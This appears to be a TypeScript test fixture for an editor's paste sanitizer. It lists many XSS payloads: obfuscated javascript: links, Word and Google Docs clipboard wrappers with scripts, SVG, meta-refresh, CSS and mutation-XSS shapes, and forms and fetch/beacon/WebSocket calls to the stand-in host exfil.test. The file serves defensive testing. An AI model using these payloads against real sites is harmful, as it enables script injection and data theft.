/**
 * Hostile content an editor meets, written for Copydesk (DOMPurify's own vectors are read in
 * place from ../shared/testdata/xss by `xssVectors()`): clipboards from Word and Google Docs
 * carrying payloads, javascript: and data: links in every disguise, SVG, <base>, <meta refresh>,
 * forms, CSS, srcdoc, mutation-XSS shapes, our own block markup spoofed. Every payload that
 * would run calls an instrumented sink (alert, fetch, sendBeacon, WebSocket, window.open,
 * import(), navigation) and every one that would load something points at exfil.test.
 */
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { sharedFolder } from '../sharedTestdata';

export interface Vector {
  /** Where it comes from and what it tries, e.g. "word: javascript: link in a list". */
  name: string;
  /** The HTML on the clipboard or in the file. */
  html: string;
}

export const EXFIL = 'https://exfil.test';

/** Word's clipboard wrapper (the same shape Word writes: Office namespaces, conditional comments, Mso classes). */
const word = (body: string, head = '') =>
  `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40"><head><meta name=Generator content="Microsoft Word 15"><!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]-->${head}<style><!-- p.MsoNormal {margin:0cm; font-family:"Calibri",sans-serif;} --></style></head><body lang=EN-GB style='tab-interval:36.0pt'><!--StartFragment-->${body}<!--EndFragment--></body></html>`;

/** Google Docs' clipboard wrapper: <meta charset>, then everything inside <b id="docs-internal-guid-…" style="font-weight:normal">. */
const docs = (body: string) => `<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-5a1c8e2f-7fff-0b1d-3c4e-9d2a6f0e1b7c">${body}</b>`;
const docsParagraph = (inner: string) => `<p dir="ltr" style="line-height:1.38;margin-top:0pt;margin-bottom:0pt;"><span style="font-size:11pt;font-family:Arial,sans-serif;color:#000000;background-color:transparent;font-weight:400;font-style:normal;vertical-align:baseline;white-space:pre-wrap;">${inner}</span></p>`;

const SCHEME_DISGUISES: Array<[string, string]> = [
  ['plain', `javascript:alert('js-plain')`],
  ['mixed case', `JaVaScRiPt:alert('js-case')`],
  ['leading spaces', `   javascript:alert('js-space')`],
  ['leading tab and newline', `\t\njavascript:alert('js-tabnl')`],
  ['leading NUL as a reference', `&#0;javascript:alert('js-nul')`],
  ['tab inside the scheme', `java&#x09;script:alert('js-tab')`],
  ['newline inside the scheme', `jav&#x0A;ascript:alert('js-nl')`],
  ['decimal references', `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('js-dec')`],
  ['hex references without semicolons', `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert('js-hex')`],
  ['padded references', `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert('js-pad')`],
  ['named colon', `javascript&colon;alert('js-colon')`],
  ['named tab', `java&Tab;script:alert('js-namedtab')`],
  ['vbscript', `vbscript:msgbox('vb')`],
  ['data: text/html', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgiZGF0YSIpPC9zY3JpcHQ+'],
  ['data: SVG', "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"],
  ['percent-encoded scheme', `%6A%61%76%61%73%63%72%69%70%74:alert('js-pct')`],
  ['protocol-relative', '//exfil.test/protocol-relative'],
  ['backslashes', '\\\\exfil.test\\share'],
];

const LINKS: Vector[] = SCHEME_DISGUISES.map(([how, href]) => ({ name: `link: ${how}`, html: `<p>Read <a href="${href}">the council's report</a> before the vote.</p>` }));

const WORD: Vector[] = [
  {
    name: 'word: javascript: link in an Mso paragraph, script in a conditional comment',
    html: word(`<p class=MsoNormal>The council <a href="javascript:alert('word-link')">published the plan</a> on Tuesday.<o:p></o:p></p><!--[if !supportLists]--><script>alert('word-script')</script><!--[endif]-->`),
  },
  {
    name: 'word: list marker holding an image with onerror',
    html: word(`<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'><img src=x onerror="alert('word-marker')">·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;</span></span><![endif]>Lighting along the route<o:p></o:p></p>`),
  },
  {
    name: 'word: VML image with external source and a javascript: href',
    html: word(`<p class=MsoNormal><!--[if gte vml 1]><v:shape style='width:100pt;height:50pt' o:href="javascript:alert('vml')"><v:imagedata src="${EXFIL}/vml.png" o:title=""/></v:shape><![endif]--><![if !vml]><img width=133 height=67 src="${EXFIL}/vml-fallback.png" v:shapes="Picture_x0020_1"><![endif]>The ferry at dusk.</p>`),
  },
  {
    name: 'word: stylesheet importing and loading from outside',
    html: word(`<p class=MsoNormal style="background:url('${EXFIL}/word-bg.png')">Night crossings start next month.</p>`, `<style>@import url("${EXFIL}/word.css"); p.MsoNormal{background-image:url(${EXFIL}/word-class.png)}</style>`),
  },
  {
    name: 'word: field result with a vbscript: hyperlink and a tooltip handler',
    html: word(`<p class=MsoNormal><span style='mso-field-code:" HYPERLINK \\"vbscript:msgbox(1)\\" "'><a href="vbscript:msgbox('word-field')" title="x" onmouseover="alert('word-title')">Budget table</a></span></p>`),
  },
];

const DOCS: Vector[] = [
  {
    name: 'docs: javascript: link inside the docs-internal wrapper',
    html: docs(docsParagraph(`Buses run <a href="javascript:alert(document.domain)" style="text-decoration:none;"><span style="color:#1155cc;text-decoration:underline;">every 30 minutes</span></a>.`)),
  },
  {
    name: 'docs: bold span whose background loads from outside and runs javascript:',
    html: docs(docsParagraph(`<span style="font-weight:700;background-image:url(javascript:alert('docs-bg'));list-style-image:url(${EXFIL}/docs-list.png)">Monday</span> the operator confirmed.`)),
  },
  {
    name: 'docs: refresh and base in the clipboard head',
    html: `<meta charset="utf-8"><meta http-equiv="refresh" content="0;url=${EXFIL}/docs-refresh"><base href="${EXFIL}/"><b style="font-weight:normal;" id="docs-internal-guid-1">${docsParagraph('<a href="relative/page">Timetable</a> until 4 a.m.')}</b>`,
  },
  {
    name: 'docs: checklist image with an onerror and a data: SVG source',
    html: docs(`<ul><li dir="ltr"><p dir="ltr"><img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" onerror="alert('docs-img')">Until 4 a.m.</p></li></ul>`),
  },
];

const ELEMENTS: Vector[] = [
  { name: 'svg: script element', html: `<p>Chart</p><svg><script>alert('svg-script')</script><circle r="4"/></svg>` },
  { name: 'svg: xlink:href javascript: on an anchor', html: `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert('svg-xlink')"><text y="20">Open the chart</text></a></svg>` },
  { name: 'svg: animate sets a javascript: href', html: `<svg><a><animate attributeName="href" values="javascript:alert('svg-animate')"/><text y="20">Click the chart</text></a></svg>` },
  { name: 'svg: use of a data: document, foreignObject with srcdoc', html: `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0neCcgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/><foreignObject><iframe srcdoc="&lt;script&gt;parent.alert('svg-srcdoc')&lt;/script&gt;"></iframe></foreignObject></svg>` },
  { name: 'base: re-bases every relative link', html: `<base href="${EXFIL}/"><p>See <a href="/story">the story</a> and <img src="pixel.gif">.</p>` },
  { name: 'meta: refresh to a javascript: URL and to a site', html: `<meta http-equiv="refresh" content="0;url=javascript:alert('meta-refresh')"><meta http-equiv="refresh" content="1;url=${EXFIL}/refresh"><p>Story text.</p>` },
  { name: 'form: action outside, autofocus submit, formaction javascript:', html: `<form action="${EXFIL}/steal" method="post"><input name="q" value="draft" autofocus onfocus="this.form.submit()"><button formaction="javascript:alert('formaction')">Send</button></form><p>After the form.</p>` },
  { name: 'form: a button outside its form', html: `<form id="f1"></form><p>Words <button form="f1" formaction="${EXFIL}/formaction" formmethod="post">here</button>.</p>` },
  { name: 'css: expression, behavior, binding, @import', html: `<style>@import '${EXFIL}/import.css'; p { behavior: url(x.htc); -moz-binding: url(${EXFIL}/xbl#x) }</style><p style="width:expression(alert('css-expr'));background:url('javascript:alert(&quot;css-url&quot;)')">Styled words.</p>` },
  { name: 'css: escaped url() and image-set() loading from outside', html: `<p style="background-image:\\75\\72\\6c(${EXFIL}/escaped.png)">One</p><p style="background:image-set('${EXFIL}/set.png' 1x)">Two</p>` },
  { name: 'link: stylesheet, prefetch and import', html: `<link rel="stylesheet" href="${EXFIL}/s.css"><link rel="prefetch" href="${EXFIL}/prefetch"><link rel="import" href="${EXFIL}/import.html"><p>Linked.</p>` },
  { name: 'iframe: srcdoc and javascript: src', html: `<iframe srcdoc="&lt;img src=x onerror=parent.alert('srcdoc')&gt;"></iframe><iframe src="javascript:alert('iframe-js')"></iframe><p>Framed.</p>` },
  { name: 'object and embed', html: `<object data="data:text/html,<script>alert('object')</script>"></object><embed src="${EXFIL}/embed.swf"><p>Embedded.</p>` },
  { name: 'images: tracking pixel, srcset, picture, input image', html: `<p><img src="${EXFIL}/pixel.gif" width="1" height="1"><img srcset="${EXFIL}/1x.png 1x, ${EXFIL}/2x.png 2x"><picture><source srcset="${EXFIL}/source.webp"></picture><input type="image" src="${EXFIL}/input.png">Counted.</p>` },
  { name: 'media: poster, audio and video sources, track', html: `<video poster="${EXFIL}/poster.png"><source src="${EXFIL}/v.mp4" onerror="alert('video-source')"><track src="${EXFIL}/t.vtt"></video><audio src="${EXFIL}/a.mp3" onerror="alert('audio')"></audio><p>Media.</p>` },
  { name: 'handlers that fire by themselves', html: `<details open ontoggle="alert('toggle')"><summary>More</summary>x</details><input autofocus onfocus="alert('focus')"><marquee onstart="alert('marquee')">m</marquee><body onload="alert('body')"><p>Handlers.</p>` },
  { name: 'sinks: fetch, beacon, WebSocket, open, import(), location', html: `<img src=x onerror="fetch('${EXFIL}/fetch')"><img src=x onerror="navigator.sendBeacon('${EXFIL}/beacon','x')"><img src=x onerror="new WebSocket('wss://exfil.test/ws')"><img src=x onerror="window.open('${EXFIL}/open')"><img src=x onerror="import('${EXFIL}/module.js')"><img src=x onerror="location='${EXFIL}/nav'"><p>Sinks.</p>` },
  { name: 'attribute break-out through a link address', html: `<p><a href="https://example.org/&quot; onmouseover=&quot;alert('breakout')">quoted</a> <a href='https://example.org/"><img src=x onerror=alert("breakout2")>'>apostrophe</a></p>` },
  { name: 'a link with ping, opener and a download', html: `<p><a href="https://example.org/ok" ping="${EXFIL}/ping" target="_blank" rel="opener" download="x.html">Tracked link</a></p>` },
];

const MUTATION: Vector[] = [
  { name: 'mxss: noscript title closes early', html: `<noscript><p title="</noscript><img src=x onerror=alert('mxss-noscript')>"></noscript><p>After.</p>` },
  { name: 'mxss: svg style swallowed by p', html: `<svg></p><style><a id="</style><img src=1 onerror=alert('mxss-svg-style')>">` },
  { name: 'mxss: math mglyph style namespace confusion', html: `<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss-mglyph')></style></mglyph></table></mtext></math>` },
  { name: 'mxss: nested forms and math', html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('mxss-forms')>` },
  { name: 'mxss: textarea inside svg path id', html: `<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert('mxss-textarea') src=1>">` },
  { name: 'markup as text: template, textarea, comments, CDATA', html: `<template><img src=x onerror=alert('template')></template><textarea><img src=x onerror=alert('textarea')></textarea><!--<img src=x onerror=alert('comment')>--><![CDATA[<img src=x onerror=alert('cdata')>]]><p>Text stays text: &lt;script&gt;alert('escaped')&lt;/script&gt;</p>` },
];

/** Copydesk's own block markup (kept when copying inside the editor), spoofed with payloads. */
const OWN_MARKUP: Vector[] = [
  {
    name: "own blocks: editor's note, pull quote and read-next with handlers and markup in attributes",
    html: `<aside data-type="editors-note" onclick="alert('note')"><p>Check the figures.</p></aside><figure data-type="pull-quote"><blockquote onmouseover="alert('quote')"><p>It is overdue</p></blockquote><figcaption>Mayor</figcaption></figure><section data-type="read-next" data-title="<img src=x onerror=alert('readnext')>"></section>`,
  },
  {
    name: 'own inline: TK note and fact id holding markup and a javascript: URL',
    html: `<p>The fare is <span data-type="tk" data-note="javascript:alert('tk')">TK</span> and <span class="fact" data-fact-id="&quot;><img src=x onerror=alert('fact')>">rising</span>.</p>`,
  },
  { name: 'own slice header spoofed', html: `<p data-pm-slice="1 1 [&quot;link&quot;,{&quot;href&quot;:&quot;javascript:alert('slice')&quot;}]">Sliced words.</p>` },
];

/** Every vector written for Copydesk (HTML on the clipboard or in a file). */
export const EDITOR_VECTORS: readonly Vector[] = [...WORD, ...DOCS, ...LINKS, ...ELEMENTS, ...MUTATION, ...OWN_MARKUP];

const paragraph = (n: number) => `<p>Paragraph ${n}: the council voted on Tuesday to run the harbour ferry at night, ending a dispute over costs that had lasted two years.</p>`;

/**
 * A copied web page, long enough for the editor to send it to the article reader (an
 * empty story takes it whole), with the payloads in its head, its chrome and its article.
 */
export function hostilePage(payloads: readonly string[], title = 'Ferry vote'): string {
  const article = payloads.map((payload, index) => `${paragraph(index + 1)}<div class="inline-embed">${payload}</div>`).join('');
  const padding = Array.from({ length: Math.max(0, 12 - payloads.length) }, (_, index) => paragraph(payloads.length + index + 1)).join('');
  return `<!doctype html><html><head><title>${title}</title><base href="${EXFIL}/"><meta http-equiv="refresh" content="0;url=${EXFIL}/page-refresh"><script>alert('page-head')</script><link rel="stylesheet" href="${EXFIL}/page.css"></head><body onload="alert('page-body')"><nav><a href="javascript:alert('nav')">Home</a></nav><article><h1>${title}</h1>${article}${padding}</article><footer><form action="${EXFIL}/subscribe"><input autofocus onfocus="alert('footer')"></form></footer></body></html>`;
}

/** Text only on the clipboard (no HTML): markup in it must stay words. */
export const PLAIN_TEXT_VECTORS: readonly string[] = [
  `<script>alert('plain-script')</script>`,
  `<img src=x onerror=alert('plain-img')> javascript:alert('plain-js') ${EXFIL}/plain`,
  `[link](javascript:alert('plain-md')) <a href="javascript:alert(1)">a</a>`,
];

/** DOMPurify's test vectors (payloads only), read in place; undefined where the folder is absent. */
export async function xssVectors(): Promise<Vector[] | undefined> {
  const folder = sharedFolder('xss/test/fixtures');
  if (!folder) return undefined;
  const module = (await import(pathToFileURL(path.join(folder, 'expect.mjs')).href)) as { default: Array<{ title?: string; payload: string }> };
  return module.default.map(({ title, payload }, index) => ({ name: `dompurify #${index + 1}${title ? `: ${title}` : ''}`, html: payload }));
}

export const XSS_SKIP_MESSAGE = 'skipped: ../shared/testdata/xss is absent (DOMPurify vectors); only the Copydesk vectors ran';
